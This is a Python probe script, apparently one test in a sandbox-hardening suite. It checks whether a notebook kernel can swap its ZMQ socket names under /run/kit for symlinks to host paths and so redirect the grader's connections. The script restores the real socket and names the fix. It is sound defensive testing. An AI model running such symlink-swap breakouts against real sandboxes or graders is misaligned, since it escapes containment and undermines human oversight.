# attack: the grader reaches the kernel's ZMQ sockets as /proc/<pid>/root/run/kit/kernel-N, a path through a folder the kernel writes; an absolute symlink there is resolved against the *grader's* root
# breach: a kernel socket's name can be replaced by a symlink to a host path (the grader's next connect to that name, e.g. after the kernel closes a socket, lands on a host socket of the grader's choosing... of ours)
# expect: /run/kit not writable by the kernel for names the grader follows, or the grader resolving inside the sandbox's root (openat2 RESOLVE_IN_ROOT); here the real name is put back at once
# run: python3 23-run-kit-symlink.py   (or paste into a notebook cell); prints one line `KITATTACK {json}`

import os, sys, json, errno, time, ctypes, signal, socket, struct, stat, re, resource, select, glob, warnings
warnings.filterwarnings("ignore")
_T0 = time.monotonic()
R, B = {}, []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def _en(e):
    if isinstance(e, OSError) and e.errno:
        return "absent" if e.errno == errno.ENOENT else errno.errorcode.get(e.errno, "E%d" % e.errno)
    return type(e).__name__


def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def probe(name, fn):
    """fn() -> value, or (harmed, value); records 'ok' / the value / the errno name."""
    try:
        out = fn()
    except KeyboardInterrupt:
        R[name] = "interrupted"
        return None
    except BaseException as e:  # noqa: BLE001
        R[name] = _en(e)
        return None
    harmed = False
    if isinstance(out, tuple) and len(out) == 2 and isinstance(out[0], bool):
        harmed, out = out
    R[name] = "ok" if out is None else (out if isinstance(out, (int, float, bool)) else str(out)[:300])
    if harmed:
        B.append(name)
    return out


def left(total=8.5):
    return total - (time.monotonic() - _T0)


def in_child(fn, timeout=2.0):
    """fn() in a forked child; its result as a string ('!ENAME' if it raised, 'died:<status>' if it died)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            try:
                out = str(fn())
            except BaseException as e:  # noqa: BLE001
                out = "!" + _en(e)
            os.write(w, out.encode()[:4000])
        finally:
            os._exit(0)
    os.close(w)
    data, end = b"", time.monotonic() + timeout
    while time.monotonic() < end:
        rd, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    status = 0
    try:
        status = os.waitpid(pid, 0)[1]
    except OSError:
        pass
    return data.decode(errors="replace") if data else "died:%d" % status


def child_probe(name, fn, timeout=2.0):
    """probe() of fn run in a child: 'ok...' results are breaches, '!E..' errors."""
    out = in_child(fn, timeout)
    if out.startswith("!"):
        R[name] = out[1:]
    elif out.startswith("died:"):
        R[name] = out
    else:
        R[name] = out[:300]
        if out.startswith("ok"):
            B.append(name)
    return out


def finish(attack):
    print("KITATTACK " + json.dumps({"attack": attack, "results": R, "breached": B}, default=str), flush=True)


def main():
    d = "/run/kit"
    if not os.path.isdir(d):
        R["run_kit"] = "absent"
        return
    entries = []
    for root, dirs, files in os.walk(d):
        for n in files + dirs:
            entries.append(os.path.join(root, n))
    R["entries"] = ",".join(e[len(d) + 1:] for e in entries)[:200]
    link = os.path.join(d, ".kitattack-link-%d" % os.getpid())

    def mk():
        os.symlink("/etc/hostname", link)
        t = os.readlink(link)
        os.unlink(link)
        return (True, "symlink to a host path made in the grader-followed folder (%s)" % t)

    probe("symlink_in_run_kit", mk)
    socks = [e for e in entries if stat.S_ISSOCK(os.lstat(e).st_mode)]
    R["kernel_sockets"] = len(socks)

    def swap():
        if not socks:
            raise FileNotFoundError(errno.ENOENT, "no socket")
        real = sorted(socks)[-1]
        aside = real + ".kitattack-aside"
        os.rename(real, aside)
        try:
            os.symlink("/etc/hostname", real)
            ok = os.path.islink(real)
            os.unlink(real)
        finally:
            os.rename(aside, real)  # the real socket is back
        return (ok, "replaced %s by a symlink for a moment" % os.path.basename(real))

    probe("swap_kernel_socket_for_symlink", swap)

    def fill():  # the watchdog counts entries (64); names are cheap
        made = []
        try:
            for i in range(60):
                p = os.path.join(d, ".kitattack-%d-%d" % (os.getpid(), i))
                os.symlink("/" + "x" * 200, p)
                made.append(p)
        finally:
            for p in made:
                os.unlink(p)
        return "made %d symlinks" % len(made)

    probe("symlinks_count", fill)


try:
    main()
except BaseException as _e:  # noqa: BLE001 - never raise out of the cell
    R["_crash"] = _en(_e)
finish('23-run-kit-symlink')
